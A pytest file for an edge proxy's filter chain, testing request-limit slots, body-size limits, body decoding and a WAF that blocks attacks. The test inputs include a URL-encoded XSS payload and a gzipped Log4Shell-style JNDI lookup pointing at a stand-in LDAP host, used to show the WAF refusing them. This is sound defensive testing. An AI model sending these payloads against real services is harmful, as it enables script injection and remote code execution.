"""The filter chain's phase hooks (edge/filters/chain.py) with the node's
own filters: what the pipeline asks the chain, and never a filter, before
the origin, for the request body, and when the request is over."""
from __future__ import annotations

import asyncio
import gzip
from types import SimpleNamespace

import pytest
from multidict import CIMultiDict

from edge.filters.chain import FilterChain, MethodFilter, Verdict
from edge.filters.request_limits import RequestLimitFilter
from edge.filters.under_attack import CHALLENGE_PATH, UnderAttackFilter
from edge.filters.waf import WafFilter
from edge.policy import parse_policy
from edge.waf import default_rules_dir, load_ruleset
from edge.waf.engine import Waf
from tests.conftest import until

ATTACK = "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"
NODE_BODY_LIMIT = 1 << 20


@pytest.fixture(scope="module")
def engine() -> Waf:
    return Waf(load_ruleset(default_rules_dir()))


@pytest.fixture
def chain(engine):
    """As the node builds it: request limits before the WAF."""
    limits = RequestLimitFilter()
    return FilterChain((MethodFilter(), limits, UnderAttackFilter(b"s" * 32), WafFilter(engine))), limits


def policy(**filters):
    doc = {"hosts": ["shop.example"], "origins": [{"url": "http://o.example"}], "filters": filters}
    return parse_policy(doc, tenant="shop", source="shop.json")


def request(target: str = "/", method: str = "GET", **headers: str):
    return SimpleNamespace(method=method, raw_path=target, headers=CIMultiDict(headers), query={})


def ctx(path: str = "/"):
    return SimpleNamespace(peer="192.0.2.7", path=path, allowlisted=False, waf=None, blocked=None, slot=None,
                           rid="r1")


async def test_an_attack_is_refused_before_it_takes_the_clients_slot(chain):
    chain, limits = chain
    c = ctx("/search")
    verdict = await chain.before_origin(request(ATTACK), c, policy(), 0)
    assert (verdict.status, verdict.detail) == (403, "filter.waf")
    assert c.slot is None and not chain.holds(c) and len(limits.slots) == 0


async def test_a_slot_taken_before_the_origin_is_held_until_released(chain):
    chain, limits = chain
    p = policy(request_limits={"max_concurrent": 1})
    first, second = ctx(), ctx()
    assert await chain.before_origin(request(), first, p, 0) is None
    assert chain.holds(first) and len(limits.slots) == 1
    refused = await chain.before_origin(request(), second, p, 0)
    assert (refused.status, refused.detail) == (429, "filter.request_limits.max_concurrent")
    chain.release(first)
    assert not chain.holds(first) and len(limits.slots) == 0
    chain.release(first)  # twice is harmless
    assert await chain.before_origin(request(), second, p, 0) is None


class Turnstile:
    """A filter after request limits that holds something of its own
    before the origin; ``fails``: how its reservation or release goes wrong."""

    name = "turnstile"

    def __init__(self, fails: str) -> None:
        self.fails = fails

    def check(self, request, ctx, policy):
        return None

    async def reserve(self, ctx, policy, wait):
        if self.fails == "raises":
            raise RuntimeError("turnstile jammed")
        if self.fails == "refuses":
            return Verdict(503, "turnstile closed", "turnstile")
        if self.fails == "waits":
            await asyncio.Event().wait()  # until the request is cancelled
        return None

    def release(self, ctx) -> None:
        if self.fails == "release-raises":
            raise RuntimeError("turnstile jammed")

    def holds(self, ctx) -> bool:
        return False


async def _gate(chain, c, p, fails: str) -> None:
    if fails == "waits":
        task = asyncio.ensure_future(chain.before_origin(request(), c, p, 0))
        await until(lambda: chain.holds(c), "request limits' slot is taken, the turnstile waits")
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
    elif fails == "raises":
        with pytest.raises(RuntimeError):
            await chain.before_origin(request(), c, p, 0)
    elif fails == "refuses":
        assert (await chain.before_origin(request(), c, p, 0)).status == 503
    else:  # passed: the request is over, and its release goes wrong
        assert await chain.before_origin(request(), c, p, 0) is None
        chain.release(c)


@pytest.mark.parametrize("fails", ["raises", "waits", "refuses", "release-raises"])
async def test_a_slot_is_given_back_whatever_a_later_filter_does(fails, caplog):
    """The client's one concurrency slot is not lost when the filter after
    request limits fails its reservation, or its release, or the request is
    cancelled while it waits: its next request is not refused."""
    limits = RequestLimitFilter()
    chain = FilterChain((MethodFilter(), Turnstile(fails) if fails == "release-raises" else limits,
                         limits if fails == "release-raises" else Turnstile(fails)))
    p = policy(request_limits={"max_concurrent": 1})
    c = ctx()
    await _gate(chain, c, p, fails)
    assert not chain.holds(c) and c.slot is None and len(limits.slots) == 0
    assert await limits.take_slot(ctx(), p, 0) is None  # the client's next request: no 429
    if fails == "release-raises":
        assert "filter turnstile failed to release" in caplog.text


def test_would_refuse_decides_without_counting(chain):
    chain, _ = chain
    c = ctx("/search")
    assert chain.would_refuse(request(ATTACK), c, policy())
    assert c.blocked is None and c.waf is None and c.slot is None
    assert not chain.would_refuse(request("/search?q=shoes"), ctx("/search"), policy())
    assert not chain.would_refuse(request(ATTACK), ctx("/search"), policy(waf={"mode": "log"}))


@pytest.mark.parametrize("section, expected", [
    ({}, NODE_BODY_LIMIT),
    ({"max_body_size": 1000}, 1000),
    ({"max_body_size": "2MiB"}, NODE_BODY_LIMIT),  # never above the node's
])
def test_body_limit_is_the_tenants_within_the_nodes(chain, section, expected):
    chain, _ = chain
    assert chain.body_limit(policy(request_limits=section), NODE_BODY_LIMIT) == expected


@pytest.mark.parametrize("waf, expected", [
    ({}, 131072),
    ({"max_body": 1024}, 1024),
    ({"inspect_body": False}, 0),
    ({"mode": "off"}, 0),
])
def test_body_wanted_before_the_origin(chain, waf, expected):
    chain, _ = chain
    assert chain.body_wanted(policy(waf=waf)) == expected


async def test_the_body_is_inspected_decoded(chain):
    chain, _ = chain
    attack = b'{"q": "${jndi:ldap://x.example/a}"}'
    c = ctx("/api")
    post = request("/api", "POST", **{"Content-Type": "application/json", "Content-Encoding": "gzip"})
    verdict = await chain.on_body(post, c, policy(), gzip.compress(attack))
    assert (verdict.status, verdict.detail, verdict.close) == (403, "filter.waf", False)
    assert await chain.on_body(post, ctx("/api"), policy(), gzip.compress(b'{"q": "red shoes"}')) is None


@pytest.mark.parametrize("coding, body, expected", [
    ("br-unknown", b"x", (415, "unsupported-body-encoding")),  # RFC 9110 §15.5.16
    ("gzip", b"not gzip", (400, "bad-body-encoding")),
])
async def test_a_body_the_waf_cannot_read_is_refused_and_the_connection_closed(chain, coding, body, expected):
    chain, _ = chain
    post = request("/api", "POST", **{"Content-Encoding": coding})
    verdict = await chain.on_body(post, ctx("/api"), policy(), body)
    assert (verdict.status, verdict.detail) == expected and verdict.close


async def test_a_waf_on_trial_reads_what_it_cannot_decode_as_sent(chain, caplog):
    chain, _ = chain
    post = request("/api", "POST", **{"Content-Encoding": "gzip"})
    with caplog.at_level("INFO", logger="edge.filters"):
        assert await chain.on_body(post, ctx("/api"), policy(waf={"mode": "log"}), b"not gzip") is None
    assert "body not inspected decoded" in caplog.text


def test_the_challenge_answer_is_read_by_the_filter_that_asked(chain):
    chain, _ = chain
    answer = chain.form_reader(request(CHALLENGE_PATH, "POST"), ctx(CHALLENGE_PATH), policy())
    assert answer is not None and isinstance(answer.__self__, UnderAttackFilter)
    assert chain.form_reader(request(CHALLENGE_PATH, "GET"), ctx(CHALLENGE_PATH), policy()) is None
    assert chain.form_reader(request("/form", "POST"), ctx("/form"), policy()) is None
